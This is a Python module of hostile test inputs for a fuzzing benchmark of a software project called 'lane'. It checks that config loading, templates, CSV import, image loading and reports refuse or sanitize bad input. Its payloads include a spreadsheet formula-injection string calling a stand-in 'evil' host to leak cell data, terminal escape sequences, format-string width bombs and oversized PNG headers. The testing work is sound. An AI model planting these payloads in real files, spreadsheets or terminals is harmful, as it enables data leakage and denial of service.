"""The hostile inputs of benchmarks/hostile.py and the targets they go to; imported by it and by
tests/lane/test_hostile.py (not a test itself).

Targets: the site file and the prompts file through `lane check-config`, a prompt template through
flows.prompts.check and fill, a holder CSV through `lane registry import`, an image file through
lane.image_file.load (what `lane plates read` does before it reads), and text from the store through the CSV
report, the terminal report, the progress lines and the log. Inputs: the issue's own cases by name (`named`: a
file nested 5,000 deep, {fee:d}, {fee:>99999999}, "{fee", a 140,000-character field, a 389 KB PNG of 20000 x
20000 pixels, an =HYPERLINK abort reason, escape codes), and generated ones (`GENERATORS`, a random.Random in,
the input's bytes out): deep nesting, huge strings, format specs, control bytes, odd encodings, huge image
headers, malformed CSV. `run_case` ends a case as "ok" or "refused" (a clear error), "traceback" (an exception
out of the lane's own code) or "violation" (output that breaks its rule: a control character on a terminal, a
formula in a CSV cell, an image decoded past the cap).
"""

from __future__ import annotations

import contextlib
import csv
import functools
import io
import logging
import random
import re
import struct
import tempfile
import traceback
import zlib
from collections.abc import Callable
from dataclasses import asdict
from datetime import UTC, date, datetime
from pathlib import Path
from types import SimpleNamespace

ROOT = Path(__file__).resolve().parent.parent

TODAY = date(2026, 11, 28)
TERMINAL_BAD = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
PIECES = ["{fee}", "{fee:d}", "{fee:>99999999}", "{", "}", "{{", "}}", "{reason}", "{remaining}", "{0}", "{}",
          "{fee!r}", "{fee.real}", "{fee[0]}", "\\u001b[2J", "\\u0007", "Rp", " ", "é", "x" * 50]  # fmt: skip
NASTY = ["=", "+", "-", "@", "\t", "\r", "\n", "\x00", "\x1b[31m", "\x1b]0;pwned\x07", "\x1b]8;;http://e/\x1b\\",
         "\x9b2J", "\u202e", "=HYPERLINK(\"http://e\",\"x\")", "é", "a", "1", "-1.5", "[bold]", " "]  # fmt: skip


def _text(rnd: random.Random, size: int = 40) -> str:
    text = "".join(rnd.choice(NASTY) for _ in range(rnd.randint(1, size)))
    return text * (rnd.choice([1, 1, 1, 10, 100]))


def png_claiming(width: int, height: int, rows: int = 4) -> bytes:
    """A PNG whose header says width x height (8-bit grey), with `rows` rows of zero pixels compressed."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    packer = zlib.compressobj(9)
    row = b"\0" * (width + 1)
    data = b"".join(packer.compress(row) for _ in range(rows)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


# --- generators: a random.Random in, the bytes of one input out -------------------------------------------------


def gen_site(rnd: random.Random) -> bytes:
    text = (ROOT / "config" / "site.toml").read_text(encoding="utf-8")
    n = rnd.choice([3, 9, 100, 2000, 6000])
    pick = rnd.randrange(8)
    if pick == 0:
        text += f"deep = {'[' * n}{']' * n}\n"
    elif pick == 1:
        text += f"deep = {'{ a = ' * n}1{' }' * n}\n"
    elif pick == 2:
        text = text.replace('"MPP Batang"', '"' + "x" * rnd.choice([100, 5000, 300_000]) + '"')
    elif pick == 3:
        text = text.replace('"MPP Batang"', f'"MPP \\u{rnd.randrange(0xA0):04x} Batang"')
    elif pick == 4:
        text = text.replace("seed = 20261128", "seed = " + "9" * rnd.choice([20, 4300, 5000]))
    elif pick == 5:
        text += "many = [" + "1," * n * 10 + "]\n"
    elif pick == 6:
        return text.encode(rnd.choice(["utf-16", "latin-1", "utf-8-sig"]), errors="replace")
    else:
        cut = rnd.randrange(len(text))
        return text[:cut].encode() + rnd.randbytes(rnd.randint(0, 50)) + text[cut:].encode()
    return text.encode()


def gen_prompts(rnd: random.Random) -> bytes:
    if rnd.random() < 0.2:
        return gen_site(rnd)
    key = rnd.choice(["payment", "rejected", "idle", "overrun.payment", "rejected@C", "photo_too_dark"])
    texts = ["".join(rnd.choice(PIECES) for _ in range(rnd.randint(1, 6))) for _ in range(2)]
    body = ", ".join('"' + t.replace('"', "") + '"' for t in texts)
    return f'[prompts]\n"{key}" = [{body}]\n'.encode()


def gen_template(rnd: random.Random) -> bytes:
    return "".join(rnd.choice(PIECES).replace("\\u001b", "\x1b") for _ in range(rnd.randint(0, 12))).encode()


def gen_registry(rnd: random.Random) -> bytes:
    from flows import population
    from lane.holders import COLUMNS

    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(COLUMNS)
    for holder in population.holders(3, rnd.randrange(1000), TODAY):
        row = {k: (v.isoformat() if isinstance(v, date) else str(v)) for k, v in asdict(holder).items()}
        row["bpjs_active"] = "1"
        column = rnd.choice(COLUMNS)
        pick = rnd.randrange(6)
        if pick == 0:
            row[column] = "A" * rnd.choice([101, 5000, 140_000])
        elif pick == 1:
            row[column] = _text(rnd)
        elif pick == 2:
            row[column] = "x\n" * rnd.choice([3, 70_000])
        writer.writerow([row[c] for c in COLUMNS] + ["extra"] * rnd.choice([0, 0, 3, 3000]))
    data = out.getvalue().encode()
    pick = rnd.randrange(5)
    if pick == 0:
        return out.getvalue().encode(rnd.choice(["utf-16", "utf-8-sig"]))
    if pick == 1:
        cut = rnd.randrange(len(data))
        return data[:cut] + rnd.choice([b"\x00", b"\xff\xfe", b'"', b"\r", rnd.randbytes(20)]) + data[cut:]
    return data


def gen_image(rnd: random.Random) -> bytes:
    w, h = rnd.choice([1, 640, 20000, 65535, 100_000]), rnd.choice([1, 480, 20000, 65535, 100_000])
    pick = rnd.randrange(5)
    if pick == 0:
        return png_claiming(w, h)
    if pick == 1:  # a GIF's logical screen
        return b"GIF89a" + struct.pack("<HH", min(w, 65535), min(h, 65535)) + b"\x00\x00\x00;"
    if pick == 2:  # a JPEG start of frame, no scan
        sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, min(h, 65535), min(w, 65535), 1) + b"\x01\x11\x00"
        return b"\xff\xd8" + sof + b"\xff\xd9"
    if pick == 3:
        data = png_claiming(min(w, 64), min(h, 64), min(h, 64))
        cut = rnd.randrange(len(data))
        return data[:cut] + rnd.randbytes(rnd.randint(0, 8)) + data[cut + 8 :]
    return rnd.randbytes(rnd.randint(0, 200))


def gen_text(rnd: random.Random) -> bytes:
    return _text(rnd).encode("utf-8", errors="surrogatepass")


GENERATORS: dict[str, Callable[[random.Random], bytes]] = {
    "site": gen_site,
    "prompts": gen_prompts,
    "template": gen_template,
    "registry": gen_registry,
    "image": gen_image,
    "report": gen_text,
    "terminal": gen_text,
}


# --- targets: one input in, "ok" or "refused: why" out; an exception is a traceback, AssertionError a violation ---


def _cli(argv: list[str]) -> str:
    from lane.cli import main

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(argv)
    assert code in (0, 1, 2), f"exit code {code}"
    assert "Traceback" not in out.getvalue() + err.getvalue(), "a traceback printed"
    assert not TERMINAL_BAD.search(out.getvalue() + err.getvalue()), "a control character printed"
    return "ok" if code == 0 else "refused: " + (err.getvalue() or out.getvalue()).strip().splitlines()[-1][:100]


def run_site(data: bytes, work: Path) -> str:
    (work / "site.toml").write_bytes(data)
    return _cli(["--config", str(work / "site.toml"), "check-config"])


def run_prompts(data: bytes, work: Path) -> str:
    (work / "site.toml").write_bytes((ROOT / "config" / "site.toml").read_bytes())
    (work / "prompts.toml").write_bytes(data)
    return _cli(["--config", str(work / "site.toml"), "check-config"])


def run_template(data: bytes, work: Path) -> str:
    from flows.prompts import check, fill

    text = data.decode("utf-8", errors="replace")
    values = {"fee": "80.000", "remaining": "25", "reason": "x"}
    filled = fill(text, values)
    assert len(filled) <= len(text) + 16 * text.count("{"), "a filled prompt grew past its values"
    problem = check("rejected", text)
    return "ok" if not problem else f"refused: {problem}"


def run_registry(data: bytes, work: Path) -> str:
    (work / "holders.csv").write_bytes(data)
    return _cli(
        [
            "--config",
            str(ROOT / "config" / "site.toml"),
            "registry",
            "--path",
            str(work / "reg.db"),
            "import",
            str(work / "holders.csv"),
        ]
    )


def run_image(data: bytes, work: Path) -> str:
    from lane import image_file

    (work / "image").write_bytes(data)
    image, why = image_file.load(work / "image")
    assert image is None or image.shape[0] * image.shape[1] <= image_file.MAX_PIXELS, "decoded past the cap"
    return "ok" if image is not None else f"refused: {why}"


def _report(text: str) -> object:
    from lane.report import model

    figures = model.Figures(text, 1)
    cycle = model.SlowCycle(1, text, text, 60.0, "aborted", text, text, text, text, 0, (model.Step(text, 0, 1, text),))
    return model.Report(
        text,
        model.Period(TODAY, TODAY, "Asia/Jakarta"),
        (text,),
        600.0,
        text,
        False,
        figures,
        (figures,),
        (figures,),
        (figures,),
        (figures,),
        (),
        (),
        model.Histogram(60.0, (0,)),
        (cycle,),
        (model.ReasonCount("aborted", text, 1),),
        (model.FaultCount(text, text, text, text, 1, text),),
        (model.OverrideCount(text, text, 1, 1, text),),
    )


def run_report(data: bytes, work: Path) -> str:
    from lane.report import render_csv
    from lane.sanitize import csv_cell

    out = io.StringIO()
    render_csv.write(_report(data.decode("utf-8", errors="replace")), out)  # type: ignore[arg-type]
    for row in csv.reader(io.StringIO(out.getvalue())):
        for cell in row:
            assert csv_cell(cell) == cell or cell.startswith("'"), f"a live formula: {cell[:40]!r}"
            assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", cell), "a control character in a cell"
    return "ok"


def run_terminal(data: bytes, work: Path) -> str:
    from lane.events import EventKind, LaneEvent
    from lane.progress import Progress
    from lane.report import render_text
    from lane.sanitize import guard_log

    text = data.decode("utf-8", errors="replace")
    out = io.StringIO()
    render_text.render(_report(text), out, width=200)  # type: ignore[arg-type]
    lane = SimpleNamespace(listeners=[], ctx={"plate": text}, clock=SimpleNamespace(wall=lambda: datetime.now(UTC)))
    Progress({"L1": lane}, "Asia/Jakarta", out, "plain")  # type: ignore[dict-item]
    lane.listeners[0](LaneEvent("L1", EventKind.ALERT, "fault", 1, 0.0, {"code": text, "text": text}))
    handler = logging.StreamHandler(out)
    logging.getLogger().addHandler(handler)
    try:
        guard_log()
        logging.getLogger("lane.hostile").warning("lane %s: %s", "L1", text)
    finally:
        logging.getLogger().removeHandler(handler)
    assert not TERMINAL_BAD.search(out.getvalue()), "a control character reached the terminal"
    return "ok"


TARGETS: dict[str, Callable[[bytes, Path], str]] = {
    "site": run_site,
    "prompts": run_prompts,
    "template": run_template,
    "registry": run_registry,
    "image": run_image,
    "report": run_report,
    "terminal": run_terminal,
}


# --- the issue's own cases, by name ------------------------------------------------------------------------------


@functools.cache
def named() -> list[tuple[str, str, bytes]]:
    site = (ROOT / "config" / "site.toml").read_bytes()
    row = gen_registry(random.Random(0)).split(b"\n")
    header, first = row[0], row[1].split(b",")
    first[2] = b"A" * 140_000
    return [
        ("site", "array nested 5000 deep", site + b"deep = " + b"[" * 5000 + b"]" * 5000 + b"\n"),
        ("prompts", "{fee:d}", b'[prompts]\npayment = ["Bayar {fee:d}", "Pay {fee}"]\n'),
        ("prompts", "{fee:>99999999}", b'[prompts]\npayment = ["Bayar {fee:>99999999}", "Pay"]\n'),
        ("prompts", "unclosed {fee", b'[prompts]\npayment = ["Bayar {fee", "Pay"]\n'),
        ("template", "{fee:>99999999} filled", b"Bayar {fee:>99999999}"),
        ("registry", "field of 140000 characters", header + b"\n" + b",".join(first) + b"\n"),
        ("image", "PNG of 20000 x 20000, 389 KB", png_claiming(20000, 20000, 20000)),
        ("report", "=HYPERLINK abort reason", b'=HYPERLINK("http://evil/?"&A1,"klik")'),
        ("terminal", "escape codes in a reason", b"gate \x1b[2J\x1b]0;pwned\x07stuck \x9b31m"),
    ]


def cases(count: int, seed: int) -> list[tuple[str, str, bytes]]:
    out = list(named())
    for target, make in GENERATORS.items():
        rnd = random.Random(f"{seed}/{target}")
        out += [(target, f"generated #{i}", make(rnd)) for i in range(count)]
    return out


# --- one case, in this process ----------------------------------------------------------------------------------


def run_case(target: str, data: bytes) -> tuple[str, str]:
    """("ok" | "refused" | "violation" | "traceback", detail), in this process."""
    with tempfile.TemporaryDirectory() as work:
        try:
            result = TARGETS[target](data, Path(work))
        except AssertionError as err:
            return "violation", str(err)
        except BaseException as err:
            frame = traceback.extract_tb(err.__traceback__)[-1]
            return "traceback", f"{type(err).__name__}: {str(err)[:100]} ({frame.filename}:{frame.lineno})"
    return ("ok", "") if result == "ok" else ("refused", result.removeprefix("refused: "))
